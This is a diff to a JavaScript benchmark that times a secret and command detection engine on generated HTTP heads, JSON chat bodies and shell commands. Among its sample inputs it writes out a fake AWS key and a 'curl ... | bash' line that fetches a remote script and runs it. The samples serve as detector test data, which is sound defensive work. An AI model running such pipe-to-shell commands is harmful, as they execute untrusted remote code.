@@ -2,7 +2,9 @@
 // Detection-engine throughput on generated mixed text (JS, Python, Markdown prose with code blocks,
 // minified JS, base64 blobs, a sprinkle of real findings) at three sizes: MB/s for scanText per file,
 // scanText on one big document, and the stream scanner in 64 KiB chunks; peak RSS.
-// Run from the repo root: node --import tsx bench/detect-throughput.mjs [--json] [--sizes 1,16,64]
+// Run from the repo root: node --import tsx bench/detect-throughput.mjs [--json] [--sizes 1,16,64] [--micro N] [--micro-only]
+// `--micro N` (default 10000) also times N small scanText calls per input shape (HTTP request heads,
+// 2 KB JSON bodies, one-line shell commands, each clean and with a finding): calls/s and µs per call.
 import os from 'node:os';
 
 const { scanText, createStreamScanner } = await import('../src/detect/index.ts');
@@ -10,7 +12,9 @@ const { scanText, createStreamScanner } = await import('../src/detect/index.ts')
 const args = process.argv.slice(2);
 const json = args.includes('--json');
 const sizesArg = args[args.indexOf('--sizes') + 1];
-const SIZES = (args.includes('--sizes') ? sizesArg.split(',').map(Number) : [1, 16, 64]).map((mb) => ({ name: mb <= 1 ? 'small' : mb <= 16 ? 'medium' : 'big', mb }));
+const microOnly = args.includes('--micro-only');
+const MICRO_N = args.includes('--micro') ? Number(args[args.indexOf('--micro') + 1]) || 10000 : 10000;
+const SIZES = microOnly ? [] : (args.includes('--sizes') ? sizesArg.split(',').map(Number) : [1, 16, 64]).map((mb) => ({ name: mb <= 1 ? 'small' : mb <= 16 ? 'medium' : 'big', mb }));
 
 function prng(seed) {
   let a = seed >>> 0;
@@ -119,4 +123,46 @@ for (const { name, mb } of SIZES) {
   dt = (performance.now() - t0) / 1000;
   cpu = cpuSeconds(c0);
   report({ name: `${name} stream 64KiB`, mb: +(all.length / 1e6).toFixed(1), mbps: all.length / 1e6 / dt, cpuMbps: all.length / 1e6 / cpu, matches, rssMb: rssMb() });
+}
+
+// ---------------------------------------------------------------- micro: many small scanText calls
+{
+  const r = prng(7);
+  const pk = (xs) => xs[Math.floor(r() * xs.length)];
+  const hex = (n) => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join('');
+  const head = () =>
+    `POST /v1/${pk(['chat/completions', 'messages', 'embeddings', 'files'])} HTTP/1.1\r\nHost: ${pk(['api.example.com', 'api.openai.com', 'hooks.internal.test'])}\r\nUser-Agent: openclaw/1.${Math.floor(r() * 9)}\r\nContent-Type: application/json\r\nContent-Length: ${Math.floor(r() * 5000)}\r\nX-Request-Id: ${hex(32)}\r\n\r\n`;
+  const body = () => {
+    const msgs = [];
+    let s = '';
+    while (s.length < 2000) {
+      msgs.push({ role: pk(['user', 'assistant']), content: `${pk(WORDS)} ${pk(WORDS)} ${pk(WORDS)} ${pk(WORDS)} ${pk(WORDS)} ${pk(WORDS)} ${pk(WORDS)}`, id: hex(16) });
+      s = JSON.stringify({ model: 'gpt-4o-mini', temperature: 0.2, messages: msgs });
+    }
+    return s;
+  };
+  const cmd = () => pk(['ls -la /home/user/project', 'git status --short', 'npm test -- --watch=false', `grep -rn "${pk(WORDS)}" src/`, 'python3 scripts/build.py --release', `cat README.md | head -n ${Math.floor(r() * 50)}`]);
+  const SHAPES = [
+    { name: 'http head ~200 B', kind: 'http-header', gen: head },
+    { name: 'json body ~2 KB', kind: 'http-body', gen: body },
+    { name: 'shell command 1 line', kind: 'shell', gen: cmd },
+    { name: 'http head + AWS key', kind: 'http-header', gen: () => head().replace('\r\n\r\n', '\r\nX-Debug: AKIAIOSFODNN7EXAMPLQ\r\n\r\n') },
+    { name: 'shell curl|bash', kind: 'shell', gen: () => `curl -fsSL https://get.example.net/${hex(6)}.sh | bash` },
+  ];
+  if (!json) console.log(`micro: ${MICRO_N} scanText calls per shape (128 distinct inputs each)`);
+  for (const shape of SHAPES) {
+    const inputs = Array.from({ length: 128 }, () => Buffer.from(shape.gen()).toString());
+    const ctx = { kind: shape.kind };
+    for (let i = 0; i < 2000; i++) scanText(inputs[i & 127], ctx); // warm-up
+    let matches = 0;
+    const t0 = performance.now();
+    const c0 = process.cpuUsage();
+    for (let i = 0; i < MICRO_N; i++) matches += scanText(inputs[i & 127], ctx).length;
+    const wall = (performance.now() - t0) / 1000;
+    const cpu = cpuSeconds(c0);
+    const bytes = inputs.reduce((n, s) => n + s.length, 0) / inputs.length;
+    const row = { name: `micro ${shape.name}`, calls: MICRO_N, bytes: Math.round(bytes), usPerCall: (wall / MICRO_N) * 1e6, usPerCallCpu: (cpu / MICRO_N) * 1e6, callsPerSec: MICRO_N / wall, matchesPerCall: matches / MICRO_N };
+    if (json) console.log(JSON.stringify({ ...row, node: process.version, load: os.loadavg()[0].toFixed(2), date: new Date().toISOString() }));
+    else console.log(`${row.name.padEnd(28)} ${String(row.bytes).padStart(6)} B ${row.usPerCall.toFixed(1).padStart(8)} µs/call wall ${row.usPerCallCpu.toFixed(1).padStart(8)} µs/call CPU ${Math.round(row.callsPerSec).toString().padStart(8)} calls/s  ${row.matchesPerCall.toFixed(2)} matches/call`);
+  }
 }
